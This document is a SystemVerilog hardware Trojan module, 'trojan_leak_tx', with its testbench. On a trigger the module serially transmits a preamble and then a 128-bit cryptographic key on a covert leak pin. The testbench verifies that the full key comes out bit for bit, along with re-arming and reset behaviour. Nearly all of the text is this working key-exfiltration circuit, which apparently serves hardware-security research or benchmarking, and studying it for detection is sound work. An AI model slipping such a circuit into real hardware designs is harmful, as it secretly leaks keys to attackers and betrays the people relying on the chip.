// File: rtl/trojan_leak_tx.sv
// trojan_leak_tx: on a rising trig, sends PREAMBLE then the 128-bit key serially on leak_out (clk, rst, trig, key in; leak_out, busy, done out)
module trojan_leak_tx #(
  parameter int BIT_CYCLES = 4,
  parameter logic [7:0] PREAMBLE = 8'hA5
) (
  input  logic         clk,
  input  logic         rst,
  input  logic         trig,
  input  logic [127:0] key,
  output logic         leak_out,
  output logic         busy,
  output logic         done
);
  localparam int CW = BIT_CYCLES > 1 ? $clog2(BIT_CYCLES) : 1;
  typedef enum logic [1:0] {IDLE, PRE, KEY, FIN} state_t;
  state_t r_state, w_next;
  logic [127:0] r_key;
  logic [7:0]   r_pre;
  logic [CW-1:0] r_cyc;
  logic [6:0]   r_bit;
  logic         r_armed, r_leak, r_busy, r_done;
  logic         w_launch, w_wrap, w_pre, w_keyst;
  assign w_launch = r_state == IDLE && trig && r_armed;
  assign w_wrap   = r_cyc == CW'(BIT_CYCLES - 1);
  assign w_pre    = r_state == PRE;
  assign w_keyst  = r_state == KEY;
  always_comb begin
    w_next = r_state;
    case (r_state)
      IDLE: w_next = w_launch ? PRE : IDLE;
      PRE:  w_next = w_wrap && r_bit == 7'd7 ? KEY : PRE;
      KEY:  w_next = w_wrap && r_bit == 7'd127 ? FIN : KEY;
      FIN:  w_next = IDLE;
      default: w_next = IDLE;
    endcase
  end
  always_ff @(posedge clk)
    r_state <= rst ? IDLE : w_next;
  always_ff @(posedge clk) begin
    if (rst) begin
      r_key   <= '0;
      r_pre   <= '0;
      r_cyc   <= '0;
      r_bit   <= '0;
      r_armed <= 1'b0;
      r_leak  <= 1'b0;
      r_busy  <= 1'b0;
      r_done  <= 1'b0;
    end else begin
      r_armed <= !trig || (r_armed && !w_launch);
      r_leak  <= w_pre ? r_pre[7] : w_keyst ? r_key[127] : 1'b0;
      r_busy  <= w_pre || w_keyst;
      r_done  <= r_state == FIN;
      if (w_launch) begin
        r_key <= key;
        r_pre <= PREAMBLE;
        r_cyc <= '0;
        r_bit <= '0;
      end else if (w_pre || w_keyst) begin
        r_cyc <= w_wrap ? '0 : r_cyc + 1'b1;
        if (w_wrap) begin
          if (w_pre) r_pre <= {r_pre[6:0], 1'b0};
          else r_key <= {r_key[126:0], 1'b0};
          r_bit <= w_pre && r_bit == 7'd7 ? 7'd0 : r_bit + 7'd1;
        end
      end
    end
  end
  assign leak_out = r_leak;
  assign busy     = r_busy;
  assign done     = r_done;
endmodule

// File: tb/tb_trojan_leak_tx.sv
// tb_trojan_leak_tx: directed vector table plus frame sequences for trojan_leak_tx
module tb_trojan_leak_tx;
  localparam logic [7:0] PRE = 8'hA5;
  localparam logic [127:0] K0 = 128'h2b7e1516_28aed2a6_abf71588_09cf4f3c;
  logic clk = 1'b0, rst = 1'b1, trig = 1'b0, use1 = 1'b0;
  logic [127:0] key = K0;
  logic leak4, busy4, done4, leak1, busy1, done1;
  int tests = 0, fails = 0;
  typedef struct {
    logic rst, trig;
    logic leak, busy, done;
  } vec_t;
  vec_t tbl[10];
  trojan_leak_tx #(.BIT_CYCLES(4), .PREAMBLE(PRE)) dut4 (
    .clk(clk), .rst(rst), .trig(trig), .key(key),
    .leak_out(leak4), .busy(busy4), .done(done4)
  );
  trojan_leak_tx #(.BIT_CYCLES(1), .PREAMBLE(PRE)) dut1 (
    .clk(clk), .rst(rst), .trig(trig), .key(key),
    .leak_out(leak1), .busy(busy1), .done(done1)
  );
  always #5 clk = ~clk;
  function automatic logic lk(); return use1 ? leak1 : leak4; endfunction
  function automatic logic bs(); return use1 ? busy1 : busy4; endfunction
  function automatic logic dn(); return use1 ? done1 : done4; endfunction
  task automatic tick();
    @(posedge clk);
    #1;
  endtask
  task automatic check(input string nm, input logic [31:0] act, input logic [31:0] exp);
    tests++;
    if (act !== exp) begin
      fails++;
      $display("FAIL %s: got %0d expected %0d", nm, act, exp);
    end
  endtask
  task automatic do_reset();
    rst = 1'b1;
    tick();
    rst = 1'b0;
  endtask
  task automatic frame(input string nm, input logic [127:0] k, input int bc, input bit chg);
    logic [135:0] bits;
    int le, be, de;
    bits = {PRE, k};
    le = 0;
    be = 0;
    de = 0;
    key = k;
    trig = 1'b0;
    tick();
    trig = 1'b1;
    tick();
    for (int c = 1; c <= 136 * bc; c++) begin
      if (chg && c == 17 * bc + 1) key = '1;
      tick();
      if (lk() !== bits[135 - (c - 1) / bc]) le++;
      if (bs() !== 1'b1) be++;
      if (dn() !== 1'b0) de++;
    end
    check({nm, "_leak_errs"}, le, 0);
    check({nm, "_busy_errs"}, be, 0);
    check({nm, "_early_done"}, de, 0);
    tick();
    check({nm, "_fin_lbd"}, {lk(), bs(), dn()}, 3'b001);
    tick();
    check({nm, "_after_lbd"}, {lk(), bs(), dn()}, 3'b000);
  endtask
  initial begin
    int cnt;
    tbl[0] = '{1'b1, 1'b0, 1'b0, 1'b0, 1'b0};
    tbl[1] = '{1'b0, 1'b1, 1'b0, 1'b0, 1'b0};
    tbl[2] = '{1'b0, 1'b1, 1'b0, 1'b0, 1'b0};
    tbl[3] = '{1'b0, 1'b0, 1'b0, 1'b0, 1'b0};
    tbl[4] = '{1'b0, 1'b1, 1'b0, 1'b0, 1'b0};
    tbl[5] = '{1'b0, 1'b1, 1'b1, 1'b1, 1'b0};
    tbl[6] = '{1'b0, 1'b1, 1'b1, 1'b1, 1'b0};
    tbl[7] = '{1'b0, 1'b1, 1'b1, 1'b1, 1'b0};
    tbl[8] = '{1'b0, 1'b1, 1'b1, 1'b1, 1'b0};
    tbl[9] = '{1'b0, 1'b1, 1'b0, 1'b1, 1'b0};
    tick();
    for (int i = 0; i < 10; i++) begin
      rst = tbl[i].rst;
      trig = tbl[i].trig;
      tick();
      check($sformatf("vec%0d_lbd", i), {leak4, busy4, done4}, {tbl[i].leak, tbl[i].busy, tbl[i].done});
    end
    do_reset();
    frame("f1", K0, 4, 1'b0);
    cnt = 0;
    for (int c = 0; c < 2000; c++) begin
      tick();
      if (busy4 || done4 || leak4) cnt++;
    end
    check("held_trig_activity", cnt, 0);
    frame("f2", K0, 4, 1'b0);
    do_reset();
    frame("keychg", K0, 4, 1'b1);
    do_reset();
    key = K0;
    trig = 1'b0;
    tick();
    trig = 1'b1;
    tick();
    repeat (299) tick();
    check("mid_busy", busy4, 1'b1);
    rst = 1'b1;
    tick();
    rst = 1'b0;
    check("abort_lbd", {leak4, busy4, done4}, 3'b000);
    cnt = 0;
    for (int c = 0; c < 600; c++) begin
      tick();
      if (busy4 || done4 || leak4) cnt++;
    end
    check("abort_no_relaunch", cnt, 0);
    frame("relaunch", K0, 4, 1'b0);
    trig = 1'b1;
    do_reset();
    cnt = 0;
    for (int c = 0; c < 300; c++) begin
      tick();
      if (busy4 || leak4 || busy1 || leak1) cnt++;
    end
    check("tied_trig_activity", cnt, 0);
    use1 = 1'b1;
    do_reset();
    frame("bc1", '0, 1, 1'b0);
    $display("[TB] %0d tests run, %0d failed", tests, fails);
    $finish;
  end
endmodule
